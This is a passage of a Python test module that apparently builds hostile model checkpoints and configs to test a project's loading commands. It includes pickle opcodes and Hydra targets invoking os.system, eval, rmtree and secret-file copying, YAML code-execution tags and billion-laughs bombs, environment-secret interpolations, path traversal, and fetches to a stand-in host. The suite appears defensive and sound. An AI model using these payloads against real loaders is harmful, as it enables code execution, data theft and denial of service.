"""S1: checkpoints from somebody else, given to every verb that takes one."""

from __future__ import annotations

import math
import os
import socket
import warnings
import zipfile
import zlib
from collections import Counter, OrderedDict
from collections.abc import Callable, Iterator, Mapping, Sequence
from itertools import cycle
from pathlib import Path
from typing import Any

import torch
import yaml

from lensblend.runs.files import file_sha256
from reliability.hostile import GUIDED, PRIOR, TINY, Box, Hostile, Verb, cases
from reliability.rows import Bench, Case

PHASE = ("schedule.run=[phase1]", "schedule.every_phase.max_epochs=1")
SMALL_DATA = ("data=embedded", "data.image_size=[32,48]", "data.train=1", "data.val=1", "metrics.lpips=null")
PHOTO = "@base/photo.png"
QUICK_PRIOR = (
    "saliency=scrn",
    "saliency.network._target_=lensblend.priors.depth_network.DepthNetwork",
    "+saliency.network.backbone._target_=lensblend.backbones.hourglass.Hourglass",
    "+saliency.network.backbone.width_divisor=16",
)
VERBS = {
    "render": Verb("render", (PHOTO, "--model", "@given", "--output", "@out"), "network.ckpt"),
    "evaluate": Verb("evaluate", ("checkpoint=@given", "output=@out", *SMALL_DATA), "network.ckpt"),
    "own data": Verb("evaluate", ("checkpoint=@given", "output=@out", "metrics.lpips=null"), "network.ckpt"),
    "train": Verb("train", (*TINY, *PHASE, "init_from=@given", "run_dir=@out"), "network.ckpt"),
    "prior": Verb("train", (*GUIDED, *PHASE, *QUICK_PRIOR, "saliency.weights=@given", "run_dir=@out"), "network.ckpt"),
    "guide": Verb(
        "render", (PHOTO, "--model", "@base/guided.ckpt", "--saliency", "@given", "--output", "@out"), "network.ckpt"
    ),
}
# Those that read the file, that build its network; of them, cases take turns.
READ = ("render", "train", "evaluate", "prior", "guide")
READ_TURNS = (("render", "train"), ("evaluate", "guide"), ("train", "prior"))
BUILD = ("render", "evaluate", "prior")
BUILD_TURNS = (("render",), ("evaluate",), ("prior",), ("render",))
# One of these is in the message if the file is not: keys of networks.
KEYS = (
    "backbone",
    "bank",
    "width",
    "sizes",
    "family",
    "scale",
    "sigma_rule",
    "weights",
    "members",
    "encoder",
    "network",
)
Damage = Callable[[Path, Box], object]
DEPTH = 3000


class _Removed:
    """What takes the place of a value that is left out."""

    def __repr__(self) -> str:
        return "(left out)"


REMOVED = _Removed()
# What stands for opcodes in `write`, where pickle itself would not write such things.
RAW: dict[str, tuple[str | bytes, ...]] = {
    "<deep mapping>": (*(b"}", "a") * DEPTH, b"N", b"s" * DEPTH),
    "<deep list>": (b"]" * DEPTH, b"a" * (DEPTH - 1)),
    "<command>": (b"cos\nsystem\n", "touch @canary", b"\x85R"),
    "<eval>": (b"cbuiltins\neval\n", "open('@canary', 'w')", b"\x85R"),
    "<terabytes>": (b"cbuiltins\nbytearray\n\x8a\x06", (1 << 41).to_bytes(6, "little"), b"\x85R"),
    "<long number>": (b"\x8b", (1 << 20).to_bytes(4, "little"), b"\x7f" * (1 << 20)),
    "<surrogate>": (b"X\x03\x00\x00\x00\xed\xa0\x80",),
    "<list as key>": (b"]",),
    "<tensor of words>": (b"ctorch._utils\n_rebuild_tensor_v2\n(", "a", "b", "c", "d", b"\x89NtR"),
    "<unknown opcode>": (b"\xff",),
    "<empty stack>": (b"0" * 100,),
    "<path as storage>": (
        b"ctorch._utils\n_rebuild_tensor_v2\n((",
        "storage",
        b"ctorch\nFloatStorage\n",
        "../../../victim/secret.yaml",
        "cpu",
        b"K\x04tQK\x00K\x04\x85K\x01\x85\x89}tR",
    ),
}


def read(path: Path) -> dict[str, Any]:
    """Read what is genuine."""
    content: dict[str, Any] = torch.load(path, weights_only=True)
    return content


def write(content: Any, path: Path, box: Box) -> None:
    """Write what is hostile, with opcodes where `RAW` has some, and its right hash beside it."""
    torch.save(content, path)
    with zipfile.ZipFile(path) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    name = next(name for name in entries if name.endswith("/data.pkl"))
    for word, parts in RAW.items():
        entries[name] = entries[name].replace(pickled(word), pickled(*box.fill(parts)))
    zipped(entries, path)


def pickled(*parts: str | bytes) -> bytes:
    """Join opcodes; a text is pickled."""
    coded = [part.encode() if isinstance(part, str) else part for part in parts]
    heads = [
        b"X" + len(c).to_bytes(4, "little") if isinstance(p, str) else b"" for p, c in zip(parts, coded, strict=True)
    ]
    return b"".join(head + code for head, code in zip(heads, coded, strict=True))


def zipped(entries: Mapping[str, bytes], path: Path) -> None:
    """Write an archive, and its right hash beside it."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    hashed(path)


def hashed(path: Path) -> None:
    """Write a file's right hash beside it."""
    path.with_name(f"{path.name}.sha256").write_text(f"{file_sha256(path)}  {path.name}\n")


def change(node: Any, where: str, value: Any, box: Box) -> None:
    """Set or remove a value below a node; a callable takes what was there, and is not filled."""
    *parents, last = (int(key) if key.isdecimal() else key for key in where.split("/"))
    for key in parents:
        node = node[key]
    if value is REMOVED:
        del node[last]
    else:
        node[last] = value(node.get(last)) if callable(value) else box.fill(value)


def put(where: str, value: Any) -> Damage:
    """Change a value of a checkpoint, found by its keys with ``/`` between them."""

    def damage(path: Path, box: Box) -> None:
        content = read(path)
        change(content, where, value, box)
        write(content, path, box)

    return damage


def net(where: str, value: Any) -> Damage:
    """Change a value of the network's description."""
    return put(f"lensblend/network/{where}", value)


def config(where: str, value: Any) -> Damage:
    """Change a value of the configuration that a checkpoint holds."""

    def damage(path: Path, box: Box) -> None:
        content = read(path)
        node = yaml.safe_load(content["lensblend"]["config"])
        change(node, where, value, box)
        content["lensblend"]["config"] = yaml.safe_dump(node)
        write(content, path, box)

    return damage


def raw(word: str) -> Damage:
    """Put opcodes in the place of the whole content."""
    return lambda path, box: write(word, path, box)


def entry(name: str, value: Callable[[bytes], bytes | None] | bytes) -> Damage:
    """Change or remove one entry of the archive."""

    def damage(path: Path, box: Box) -> None:
        with zipfile.ZipFile(path) as archive:
            entries = {entry: archive.read(entry) for entry in archive.namelist()}
        found = next((entry for entry in entries if entry.endswith(name)), name)
        changed = value(entries.get(found, b"")) if callable(value) else value
        entries.pop(found, None)
        zipped({**entries, **({} if changed is None else {found: changed})}, path)

    return damage


def filled(make: bytes | Callable[[bytes], bytes]) -> Damage:
    """Put other bytes in the place of a file's."""
    return lambda path, box: path.write_bytes(make(path.read_bytes()) if callable(make) else make)


def instead(make: Callable[[Path, Box], object]) -> Damage:
    """Put something else in the place of a file."""

    def damage(path: Path, box: Box) -> None:
        path.unlink(missing_ok=True)
        make(path, box)

    return damage


def link(target: str) -> Damage:
    """Put a link in the place of a file."""
    return instead(lambda path, box: path.symlink_to(box.fill(target)))


def sparse(path: Path, gigabytes: int) -> None:
    """Make a file of zeros that takes no place."""
    path.touch()
    os.truncate(path, gigabytes << 30)


FIFO = instead(lambda path, box: os.mkfifo(path))
FOLDER = instead(lambda path, box: path.mkdir())
LOOP = instead(lambda path, box: path.symlink_to(path))
SPARSE = instead(lambda path, box: sparse(path, 200))
# Mappings and lists that are small, and endless for who goes through them without looking where he was.


def dag(depth: int = 40, wrap: Callable[[Any], Any] = lambda node: [node, node]) -> Any:
    """Return a small node whose walk takes two to the depth steps."""
    node: Any = [25]
    for _ in range(depth):
        node = wrap(node)
    return node


def cyclic_list(*_: Any) -> list[Any]:
    """Return a list that holds itself."""
    node: list[Any] = [25]
    node.append(node)
    return node


def cyclic_mapping(old: Mapping[str, Any]) -> dict[str, Any]:
    """Return a mapping that holds itself."""
    node = dict(old)
    node["backbone"] = node
    return node


LAUGHS = "a0: &a0 [x, x]\n" + "".join(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]\n" for i in range(1, 40))
JOB = {
    "_target_": "lensblend.launchers.jobs.Job",
    "number": 0,
    "overrides": [],
    "folder": {"_target_": "pathlib.Path", "_args_": ["@canary"]},
    "command": ["/bin/sh", "-c", "touch @canary"],
}
RUNNING = "lensblend.launchers.local._Running"
# Callables that nobody may call for somebody else, each with arguments that would be noticed.
CALLS: dict[str, dict[str, Any]] = {
    "os.system": {"_args_": ["touch @canary"]},
    "subprocess.Popen": {"_args_": [["touch", "@canary"]]},
    RUNNING: {"job": JOB, "environment": {}, "gpus": [], "to_log": False},
    "builtins.open": {"file": "@canary", "mode": "w"},
    "builtins.exec": {"_args_": ["open('@canary', 'w')"]},
    "builtins.eval": {"_args_": ["open('@canary', 'w')"]},
    "pathlib.Path.write_text": {"_args_": [{"_target_": "pathlib.Path", "_args_": ["@canary"]}, "x"]},
    "pathlib.Path.touch": {"self": {"_target_": "pathlib.Path", "_args_": ["@canary"]}},
    "shutil.rmtree": {"path": "@victim"},
    "shutil.copyfile": {"src": "@victim/secret.yaml", "dst": "@out"},
    "os.remove": {"path": "@victim/precious.txt"},
    "sys.exit": {"_args_": [0]},
    "os._exit": {"_args_": [0]},
    "os.kill": {"_args_": [0, 15]},
    "time.sleep": {"_args_": [60]},
    "runpy.run_path": {"path_name": "@box/given/evil.py"},
    "importlib.import_module": {"name": "antigravity"},
    "torch.load": {"f": "@box/given/evil.pkl", "weights_only": False},
    "torch.hub.load": {"repo_or_dir": "@box/given", "model": "x", "source": "local"},
    "torch.hub.load_state_dict_from_url": {"url": "http://192.0.2.1/x.pth"},
    "torch.utils.cpp_extension.load_inline": {"name": "x", "cpp_sources": ""},
    "numpy.load": {"file": "@box/given/evil.pkl", "allow_pickle": True},
    "pickle.load": {"file": {"_target_": "builtins.open", "file": "@box/given/evil.pkl", "mode": "rb"}},
    "urllib.request.urlopen": {"url": "http://192.0.2.1/"},
    "webbrowser.open": {"url": "http://192.0.2.1/"},
    "hydra.utils.instantiate": {"config": {"_target_": "builtins.open", "file": "@canary", "mode": "w"}},
    "hydra.utils.get_object": {"path": "antigravity"},
    "functools.partial": {"_args_": [{"_target_": "builtins.open", "file": "@canary", "mode": "w"}]},
    "wandb.init": {"dir": "@canary", "mode": "offline"},
    "pytorch_lightning.loggers.CSVLogger": {"save_dir": "@canary"},
    "pytorch_lightning.loggers.TensorBoardLogger": {"save_dir": "@canary"},
    "pytorch_lightning.loggers.WandbLogger": {"save_dir": "@canary", "offline": True},
    "pytorch_lightning.callbacks.ModelCheckpoint": {"dirpath": "@canary"},
    "pytorch_lightning.Trainer": {"default_root_dir": "@canary"},
    "pytorch_lightning.strategies.DDPStrategy": {},
    "torch.nn.parallel.DistributedDataParallel": {"module": {"_target_": "torch.nn.Identity"}},
    "torch.nn.Module.load_state_dict": {"_args_": [{"_target_": "torch.nn.Identity"}, {}]},
    "torch.nn.modules.module.torch.load": {"f": "@box/given/evil.pkl", "weights_only": False},
    "torch.nn.modules.module.torch.os.system": {"_args_": ["touch @canary"]},
    "torch.optim.Adam": {"params": []},
    "lensblend.storage.os.mkdir": {"path": "@canary"},
    "lensblend.storage.write_atomically": {"path": "@canary", "content": "x"},
    "lensblend.storage.shutil.rmtree": {"path": "@victim"},
    "lensblend.training.runner.Training": {"config": {}, "run_dir": "@canary"},
    "lensblend.runs.checkpoint_files.AtomicCheckpointIO": {},
    "lensblend.runs.checkpoint_files.torch.save": {"obj": 1, "f": "@canary"},
    "lensblend.training.loggers.wandb_run.PhaseWandbLogger": {"phase_run": {}},
    "lensblend.training.loggers.metrics_csv.MetricsCsv": {"phase_run": {}},
    "lensblend.training.callbacks.panels.Panels": {},
    "lensblend.training.callbacks.keep.KeepLastAndBest": {"folder": "@canary", "monitor": "val/psnr"},
    "lensblend.training.callbacks.progress.progress": {},
    "lensblend.inference.guidance.MapFiles": {"name": "saliency", "folder": "@victim"},
    "lensblend.runs.checkpoints.load_network": {"path": "@victim/best.ckpt"},
    "lensblend.data.embedded.Embedded": {"cache": "@canary", "image_size": [32, 48], "train": 1, "val": 1},
    "lensblend.data.catalogue.Folders": {"photos": "@victim", "targets": "@victim"},
    "lensblend.losses.pixel.L1": {},
    "lensblend.metrics.fidelity.Psnr": {},
    "lensblend.nn.kernel_bank._check_name": {"key": "a", "value": "b", "known": []},
    "lensblend.networks.depth_blend.sqrt": {"_args_": [4]},
    "lensblend.networks.depth_blend.DepthBlend.forward": {"_args_": [None, None]},
    "lensblend.networks.depth_blend": {},
    "lensblend.priors.vgg.Vgg19Features": {"download": True},
    "lensblend.priors.weights.weights_path": {"name": "vgg19", "weights": None, "download": True},
}
# Where in a network's description something can stand; the rest of it stays genuine.
SPOTS: dict[str, Callable[[Any], Damage]] = {
    "as the network": lambda node: put("lensblend/network", node),
    "as the backbone": lambda node: net("backbone", node),
    "as a number": lambda node: net("backbone/width_divisor", node),
    "in a list": lambda node: net("bank/sizes", [25, 45, node]),
    "deep down": lambda node: net("linear_light", {"a": [{"b": [[{"c": node}]]}]}),
    "in `_args_`": lambda node: net("_args_", [node]),
    "in a tuple": lambda node: net("bank/sizes", (25, 45, node)),
    "as an argument too many": lambda node: net("bank/extra", node),
}


def dangerous() -> Iterator[tuple[str, Damage]]:
    """Put each dangerous node somewhere, the first everywhere."""
    spots = cycle(SPOTS.items())
    for number, (target, arguments) in enumerate(CALLS.items()):
        for spot, at in SPOTS.items() if number < 1 else [next(spots)]:
            yield f"{target} {spot}", at({"_target_": target, **arguments})
    opened = {"_target_": "builtins.open", "file": "@canary", "mode": "w"}
    yield "builtins.open, to be called later", net("backbone", {**opened, "_partial_": True})
    yield (
        "builtins.open, not to be looked into",
        net("backbone", {**opened, "_recursive_": False, "_convert_": "object"}),
    )
    timm = {"_target_": "lensblend.backbones.timm_pyramid.TimmPyramid", "name": "resnet18", "decoder_channels": 16}
    for weights in ("@fifo", "/dev/zero", "@victim/secret.yaml", "@box/given/evil.pkl"):
        yield f"a backbone with weights from {weights}", net("backbone", {**timm, "weights": weights})
    for name in ("hf-hub:somebody/evil", "local-dir:@box/given", "../resnet18"):
        yield f"a backbone of the name {name}", net("backbone", {**timm, "name": name})
    scrn = {"_target_": "lensblend.priors.scrn.Scrn", "weights": "@fifo"}
    yield "a prior network with weights from a FIFO", put("lensblend/network", scrn)


# Texts that OmegaConf would resolve.
CREATED = {
    name: f"${{oc.create:{node}}}"
    for name, node in {
        "writes a file": "{_target_: builtins.open, file: '@canary', mode: w}",
        "copies a file": "{_target_: shutil.copyfile, src: '@victim/secret.yaml', dst: '@canary'}",
        "removes a folder": "{_target_: shutil.rmtree, path: '@victim'}",
        "runs a file": "{_target_: runpy.run_path, path_name: '@box/given/evil.py'}",
        "loads a pickle": "{_target_: torch.load, f: '@box/given/evil.pkl', weights_only: false}",
        "ends the process": "{_target_: sys.exit, _args_: [0]}",
        "starts a job": "{_target_: os.system, _args_: ['touch @canary']}",
    }.items()
}
TEXTS = {
    "decodes a node": "${oc.decode:\"{_target_: builtins.open, file: '@canary', mode: w}\"}",
    "names a folder": "${run_folder:null,'@canary',x}",
    "asks the environment": "${oc.env:LENSBLEND_SECRET}",
    "asks the environment within": "${oc.env:${oc.env:LENSBLEND_SECRET}}",
    "falls back": "${oc.env:NOTHING,gaussian}",
    "asks Hydra": "${hydra:runtime.cwd}",
    "points elsewhere": "${..backbone}",
    "points to itself": "${.}",
    "is not closed": "${oc.env:HOME",
    "is escaped": "\\${oc.env:LENSBLEND_SECRET}",
}


def interpolations() -> Iterator[tuple[str, Damage]]:
    """Put one such text everywhere, and each somewhere."""
    writes = CREATED["writes a file"]
    for spot, at in SPOTS.items():
        yield f"writes a file {spot}", at(writes)
    spots = cycle({"family": "bank/family", "backbone": "backbone", "bank": "bank", "rule": "bank/sigma_rule"}.items())
    for name, text in [*CREATED.items(), *TEXTS.items()][1:]:
        spot, where = next(spots)
        yield f"{name}, as the {spot}", net(where, text)
    yield "as a key", net(writes, 1)
    yield "as a target", net("_target_", writes)
    yield "in a target", net("_target_", "lensblend.networks.${oc.env:LENSBLEND_SECRET}.X")


DEPTH_BLEND = "lensblend.networks.depth_blend.DepthBlend"
TARGETS: dict[str, Any] = {
    "a number": 5,
    "nothing": None,
    "empty": "",
    "a list": [DEPTH_BLEND],
    "a mapping": {"a": 1},
    "true": True,
    "a type of numbers": torch.float32,
    "a tensor": torch.ones(2),
    "bytes": DEPTH_BLEND.encode(),
    "very long": "lensblend.networks." + "x" * 1_000_000,
    "of very many parts": "lensblend.networks" + ".a" * 100_000,
    "with NUL": f"{DEPTH_BLEND}\0",
    "with a line break": f"{DEPTH_BLEND}\n",
    "with a blank": f" {DEPTH_BLEND}",
    "that steers a terminal": "lensblend.networks.\x1b[2J\x1b]0;evil\x07",
    "in other letters": "lensblend.netwоrks.depth_blend.DepthBlend",
    "that goes up": "lensblend.networks...os.system",
    "that begins with a dot": f".{DEPTH_BLEND}",
    "that ends with a dot": "lensblend.networks.",
    "with slashes": DEPTH_BLEND.replace(".", "/"),
    "of a half character": "<surrogate>",
    "of a module that is not there": "lensblend.networks.evil.Evil",
    "of two underscores": f"{DEPTH_BLEND}.__init__.__globals__",
    "of a class within": "lensblend.networks.depth_blend.nn.Linear",
}
NODES: dict[str, Damage] = {
    "`_args_` is text": net("_args_", "ab"),
    "`_args_` is a number": net("_args_", 5),
    "`_args_` is a mapping": net("_args_", {"_target_": "os.system", "command": "touch @canary"}),
    "`_args_` too many": net("_args_", list(range(1000))),
    "`_partial_` is text": net("_partial_", "yes"),
    "to be called later": net("_partial_", True),
    "`_recursive_` is false": net("_recursive_", False),
    "`_convert_` is a node": net("_convert_", {"_target_": "os.system", "_args_": ["touch @canary"]}),
    "an unknown key with underscores": net("_evil_", 1),
    "a magic key": net("__class__", "os.system"),
    "an argument too many": net("evil", 1),
    "an argument too few": net("backbone", REMOVED),
    "an argument of nothing": net("backbone", None),
    "a part that is text": net("bank", "bank"),
    "a part that is a list": net("backbone", [{"_target_": "torch.nn.Identity"}]),
    "two parts exchanged": lambda path, box: (
        net("backbone", read(path)["lensblend"]["network"]["bank"])(path, box),
        net("bank", {"_target_": "lensblend.backbones.hourglass.Hourglass", "width_divisor": 16})(path, box),
    ),
    **{
        f"a key of {key!r}": put("lensblend/network", lambda old, key=key: {**old, key: 1})
        for key in (5, None, True, ("a", "b"), math.nan, torch.float32, b"bank")
    },
    "a list as key": put("lensblend/network", lambda old: {**old, "<list as key>": 1}),
    "a mapping that holds itself": put("lensblend/network", cyclic_mapping),
    "a list that holds itself": net("bank/sizes", cyclic_list),
    "a list 3,000 deep": net("bank/sizes", "<deep list>"),
    "a mapping 3,000 deep": net("linear_light", "<deep mapping>"),
    "lists shared 2⁴⁰ times": net("bank/sizes", lambda old: dag()),
    "mappings shared 2⁴⁰ times": net("linear_light", lambda old: dag(40, lambda node: {"a": node, "b": node})),
    "a million numbers": net("bank/sizes", lambda old: list(range(3, 2_000_003, 2))),
    "a million mappings": net("linear_light", lambda old: [{} for _ in range(1_000_000)]),
    "a counter": net("bank", Counter(a=1)),
    "a complex number": net("bank/scale", 1j),
    "bytes": net("bank/family", b"gaussian"),
    "a number of a million digits": net("bank/scale", "<long number>"),
    "a half character": net("bank/family", "<surrogate>"),
}
SIZES: dict[str, tuple[str, Any]] = {
    "width 0": ("backbone/width_divisor", 0),
    "width −1": ("backbone/width_divisor", -1),
    "width 10⁹": ("backbone/width_divisor", 10**9),
    "width ½": ("backbone/width_divisor", 0.5),
    "width of text": ("backbone/width_divisor", "16"),
    "width of NaN": ("backbone/width_divisor", math.nan),
    "width of a list": ("backbone/width_divisor", [16]),
    "a kernel of 10³⁰": ("bank/sizes", [25, 45, 10**30 + 1]),
    "a kernel of −25": ("bank/sizes", [-25, 45, 75]),
    "kernels of text": ("bank/sizes", "abc"),
    "kernels of nothing": ("bank/sizes", [None, None, None]),
    "no kernels": ("bank/sizes", []),
    "100,000 kernels": ("bank/sizes", list(range(3, 200_003, 2))),
    "a scale of 10⁹": ("bank/scale", 1e9),
    "a scale of NaN": ("bank/scale", math.nan),
    "an infinite scale": ("bank/scale", math.inf),
    "a scale of −1": ("bank/scale", -1.0),
    "a scale of text": ("bank/scale", "wide"),
}
# What is odd, but may do.
HARMLESS: dict[str, tuple[str, Any]] = {
    "a kernel of 100,001": ("bank/sizes", [25, 45, 100_001]),
    "kernels in a mapping": ("bank/sizes", {25: 1, 45: 1, 75: 1}),
    "kernels in a set": ("bank/sizes", {25, 45, 75}),
    "kernels in a tensor": ("bank/sizes", torch.tensor([25, 45, 75])),
    "a truth of text": ("linear_light", "maybe"),
    "`_convert_` is odd": ("_convert_", "evil"),
    "`_recursive_` is true": ("_recursive_", True),
}
NETWORKS: dict[str, dict[str, Any]] = {
    "10⁹ blocks": {"_target_": "lensblend.networks.saliency_rrdb.SaliencyRrdb", "width": 8, "blocks": 10**9},
    "100,000 blocks": {"_target_": "lensblend.networks.saliency_rrdb.SaliencyRrdb", "width": 8, "blocks": 100_000},
    "a width of 10⁹": {"_target_": "lensblend.networks.edge_guided_residual.EdgeGuidedResidual", "width": 10**9},
    "a width of 30,000": {"_target_": "lensblend.networks.attention_unet.AttentionUnet", "width": 30_000},
    "filters of 9,999": {
        "_target_": "lensblend.networks.predictive_filter.PredictiveFilter",
        "width": 8,
        "kernel_size": 9999,
    },
    "a decoder of 10⁷": {
        "_target_": DEPTH_BLEND,
        "backbone": {
            "_target_": "lensblend.backbones.timm_pyramid.TimmPyramid",
            "name": "resnet18",
            "decoder_channels": 10**7,
        },
        "bank": {"_target_": "lensblend.nn.kernel_bank.KernelBank"},
    },
    "no members": {"_target_": "lensblend.networks.ensemble.Ensemble", "members": []},
    "10,000 members": {
        "_target_": "lensblend.networks.ensemble.Ensemble",
        "members": [{"_target_": "lensblend.networks.attention_unet.AttentionUnet", "width": 24}] * 10_000,
    },
    "ensembles of ensembles, 200 deep": dag(
        200, lambda node: {"_target_": "lensblend.networks.ensemble.Ensemble", "members": [node]}
    ),
}
RECORDS: dict[str, Damage] = {
    "none": put("lensblend", REMOVED),
    "a list": put("lensblend", ["network"]),
    "nothing": put("lensblend", None),
    "text": put("lensblend", "network"),
    "no network": put("lensblend/network", REMOVED),
    **{
        f"the format {form!r}": put("lensblend/format", form)
        for form in ("2", 99, 10**30, None, [2], {"a": 2}, torch.tensor([1, 2]))
    },
}
# Those that `train` does not look at.
DESCRIPTIONS: dict[str, Damage] = {
    "a network of nothing": put("lensblend/network", None),
    "a network that is a list": put("lensblend/network", [1]),
    "an empty network": put("lensblend/network", {}),
    "a network without target": net("_target_", REMOVED),
    "a network that is a tensor": put("lensblend/network", torch.ones(3)),
}
# What nobody looks at, or what is only shown.
UNIMPORTANT: dict[str, Damage] = {
    "no phase": put("lensblend/phase", REMOVED),
    **{
        f"the phase {phase!r:.20}": put("lensblend/phase", phase)
        for phase in (5, None, ["a"], "../../x", "x" * 100_000, "a\nb\x1b[2J", "<script>alert(1)</script>", "a\0b")
    },
    "a million unknown numbers": put("lensblend/evil", lambda old: [0] * 10**6),
    "versions that are text": put("lensblend/versions", "new"),
    "a parent that is a list": put("lensblend/parent", [1]),
    "a format that is no number": put("lensblend/format", math.nan),
}
IMAGE_SIZES: tuple[Any, ...] = (
    *([32], [], [32, 48, 3], [0, 0], [-1, 48], [32.5, 48], ["a", "b"], "ab", None, {"a": 1, "b": 2}, 32, REMOVED),
    *([10**9, 10**9], [1, 10**9], [60_000, 60_000], [10**30, 48], [math.nan, 48], torch.tensor([32, 48])),
)
YAML: dict[str, Any] = {
    "laughs a billion times": f"{LAUGHS}data: *a39\n",
    "a number": 5,
    "nothing": None,
    "a list": ["data"],
    "bytes": b"data: 1",
    "a mapping": {"data": {"_target_": "os.system", "_args_": ["touch @canary"]}},
    "empty": "",
    "not YAML": "data: [}",
    "a list in YAML": "[1, 2]",
    "a number in YAML": "5",
    "no data": "seed: 0\n",
    "data of nothing": "data: null\n",
    "data that is a list": "data: [1]\n",
    "data that is text": "data: evil\n",
    "10,000 deep": f"data: {'[' * 10_000}{']' * 10_000}",
    "mappings 10,000 deep": f"data: {'{a: ' * 10_000}1{'}' * 10_000}",
    "that holds itself": "data: &a [*a]\n",
    "a mapping that holds itself": "data: &a {_target_: lensblend.data.embedded.Embedded, cache: *a}\n",
    "that runs": "data: !!python/object/apply:os.system ['touch @canary']\n",
    "that names a class": "data: !!python/name:os.system\n",
    "with an unknown tag": "data: !evil {a: 1}\n",
    "of 50 MB": lambda old: old + "evil:\n" + "- aaaaaaa\n" * 5_000_000,
    "none": REMOVED,
    "of one long line": lambda old: f"{old}evil: {'a' * 50_000_000}\n",
    "with NUL": "data: \0\n",
    "with a day that is none": "data: 9999-99-99\n",
    "with a long number": f"data: {'9' * 10_000}\n",
    "with a long base": f"data: 1{':59' * 100_000}\n",
    "with bad base 64": "data: !!binary '***'\n",
    "with a list as key": "? [a, b]\n: 1\ndata: {}\n",
    "with an unknown alias": "data: *evil\n",
    "two documents": "data: {}\n---\ndata: {}\n",
    "merges that grow": "a: &a {x: 1}\n"
    + "".join(f"b{i}: &b{i} {{<<: [*a, *a]}}\n" for i in range(1000))
    + "data: *b999\n",
    "a directive": "%YAML 9.9\n---\ndata: {}\n",
}
PAIRS = {"_target_": "lensblend.data.embedded.Embedded", "image_size": [32, 48], "train": 1, "val": 1}
EBB = {"_target_": "lensblend.data.catalogue.Ebb", "root": "@victim"}
FOLDERS = {"_target_": "lensblend.data.catalogue.Folders", "photos": "@victim", "targets": "@victim"}
SCENES = {"_target_": "lensblend.data.scenes.Scenes", "image_size": [32, 48]}
# Data all the same, if nothing is written where it says.
USABLE: dict[str, Any] = {
    "a cache elsewhere": {**PAIRS, "cache": "@canary"},
    "a cache at home": {**PAIRS, "cache": "~/evil"},
    "a cache in a FIFO": {**PAIRS, "cache": "@fifo"},
    "somebody's folders": {**FOLDERS, "val_fraction": 0.9},
}
DATA: dict[str, Any] = {
    "a cache by position": {"_target_": PAIRS["_target_"], "_args_": [[32, 48], 1, 1, 0, "@canary"]},
    "10⁹ pairs": {**PAIRS, "train": 10**9, "val": 10**9},
    "pairs of 100,000 pixels": {**PAIRS, "image_size": [100_000, 100_000]},
    "a size of text": {**PAIRS, "image_size": "ab"},
    "a count of text": {**PAIRS, "val": "many"},
    "half a pair": {**PAIRS, "val": 1.5},
    "a camera of NaN": {**PAIRS, "aperture": math.nan},
    "a seed of −1": {**PAIRS, "seed": -1},
    "10¹² scenes": {**SCENES, "length": 10**12, "val_length": 10**12},
    "somebody's folder as EBB!": EBB,
    "somebody's file as list": {**EBB, "val_list": "@victim/secret.yaml"},
    "a FIFO as list": {**EBB, "val_list": "@fifo"},
    "a device as list": {**EBB, "exclude": "/dev/zero"},
    "the root folder": {**FOLDERS, "photos": "/", "targets": "/"},
    "os.system": {"_target_": "os.system", "_args_": ["touch @canary"]},
    "a launched job": {"_target_": RUNNING, **CALLS[RUNNING]},
    "a launched job within": {**PAIRS, "cache": {"_target_": RUNNING, **CALLS[RUNNING]}},
    "a network": {"_target_": "lensblend.backbones.hourglass.Hourglass"},
    "a training": {"_target_": "lensblend.training.runner.Training", "config": {}, "run_dir": "@canary"},
    "an interpolation": "${oc.create:{_target_: pathlib.Path.touch, self: '@canary'}}",
    "the environment": {**PAIRS, "cache": "${oc.env:LENSBLEND_SECRET}"},
    "for later": {**PAIRS, "_partial_": True},
}
# By what the saliency of a network with guidance would come from.
GUIDES: dict[str, Any] = {
    "weights from a FIFO": {**PRIOR, "weights": "@fifo"},
    "weights from a device": {**PRIOR, "weights": "/dev/zero"},
    "weights from somebody's file": {**PRIOR, "weights": "@victim/secret.yaml"},
    "weights from a pickle": {**PRIOR, "weights": "@box/given/evil.pkl"},
    "weights that are a list": {**PRIOR, "weights": ["@victim/best.ckpt"]},
    "os.system": {"_target_": "os.system", "_args_": ["touch @canary"]},
    "os.system as the network": {**PRIOR, "network": {"_target_": "os.system", "_args_": ["touch @canary"]}},
    "a launched job as the network": {**PRIOR, "network": {"_target_": RUNNING, **CALLS[RUNNING]}},
    "a download": {**PRIOR, "network": {"_target_": "lensblend.priors.vgg.Vgg19Features", "download": True}},
    "an interpolation": "${oc.create:{_target_: builtins.open, file: '@canary', mode: w}}",
    "maps in a file": {"_target_": "lensblend.inference.guidance.MapFiles", "folder": "@victim/precious.txt"},
    "a size of 10⁹": {**PRIOR, "weights": "@victim/best.ckpt", "image_size": [10**9, 10**9]},
    "another name": {"_target_": "lensblend.inference.guidance.Truth", "name": "disparity"},
    "text": "evil",
    "a list": [PRIOR],
}
Change = Callable[[torch.Tensor], Any]


def some(alter: Change) -> Damage:
    """Change one weight."""
    return put("state_dict/head.weight", alter)


def every(alter: Change) -> Damage:
    """Change all weights."""
    return put("state_dict", lambda old: {name: alter(weight) for name, weight in old.items()})


def _first(weight: torch.Tensor, value: float) -> torch.Tensor:
    weight = weight.clone(memory_format=torch.contiguous_format)
    weight.view(-1)[0] = value
    return weight


def _named(weight: torch.Tensor) -> torch.Tensor:
    weight = weight.clone()
    weight.evil = "@canary"  # type: ignore[attr-defined]
    return weight


STATES: dict[str, Damage] = {
    "no weights": put("state_dict", REMOVED),
    "weights of nothing": put("state_dict", None),
    "weights in a list": put("state_dict", lambda old: list(old.values())),
    "weights of text": put("state_dict", "weights"),
    "one tensor": put("state_dict", torch.ones(3)),
    "empty": put("state_dict", {}),
    "within another mapping": put("state_dict", lambda old: {"state_dict": old}),
    "numbers": every(lambda weight: 0.5),
    "lists": every(lambda weight: weight.tolist()),
    "keys of numbers": put("state_dict", lambda old: dict(enumerate(old.values()))),
    "one key of nothing": put("state_dict", lambda old: {**old, None: torch.ones(1)}),
    "a key of 10 MB": put("state_dict", lambda old: {**old, "x" * 10_000_000: torch.ones(1)}),
    "a key that steers a terminal": put("state_dict", lambda old: {"\x1b[2J": torch.ones(1), **old}),
    "one missing": put("state_dict/head.weight", REMOVED),
    "one too many": put("state_dict/evil", torch.ones(1)),
    "100,000 too many": put("state_dict", lambda old: {**old, **{f"w{i}": 0 for i in range(100_000)}}),
    "one of nothing": some(lambda weight: None),
    "one of text": some(lambda weight: "evil"),
    "one of another shape": some(lambda weight: weight[:2]),
